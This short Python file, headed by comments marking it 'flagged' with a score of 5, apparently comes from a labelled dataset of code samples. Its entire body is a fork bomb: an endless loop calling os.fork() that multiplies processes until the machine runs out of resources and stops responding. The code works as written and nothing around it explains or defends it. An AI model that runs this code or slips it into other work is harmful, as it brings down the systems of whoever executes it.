# status: flagged
# score: 5
import os

while True:
    os.fork()
